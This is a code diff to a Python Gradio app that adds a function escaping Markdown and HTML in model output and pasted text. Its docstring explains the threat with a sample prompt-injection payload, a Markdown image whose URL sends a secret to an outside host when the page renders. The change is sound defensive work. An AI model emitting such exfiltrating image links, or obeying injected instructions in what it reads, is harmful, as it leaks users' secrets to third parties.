@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import logging
 import os
+import re
 from collections.abc import Callable
 from typing import Any
 
@@ -14,6 +15,8 @@ import gradio as gr
 from coach.errors import CoachError
 
 log = logging.getLogger(__name__)
+# Characters that start Markdown images, links, emphasis, code or autolinks.
+_ACTIVE = re.compile(r"[\\`*_\[\]()!#|~]")
 
 
 def engine_badge(engine: str, model: str | None) -> str:
@@ -33,5 +36,15 @@ def guard(what: str, fn: Callable[[], list[Any]], width: int) -> list[Any]:
     return [gr.skip() for _ in range(width)]
 
 
+def inert(text: str) -> str:
+    """Text from a model or a paste, made safe to put inside Markdown: no image, link or HTML comes alive.
+
+    A prompt injection in a pasted text could make a model answer `![x](http://host/leak.png?d=SECRET)`; rendered,
+    the browser would fetch it. Markdown's active characters are escaped, so it shows as the characters it is.
+    """
+    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+    return _ACTIVE.sub(lambda m: "\\" + m.group(), text)
+
+
 def notes_markdown(warnings: list[str]) -> str:
-    return "\n".join(f"⚠ {w}  " for w in warnings)
+    return "\n".join(f"⚠ {inert(w)}  " for w in warnings)
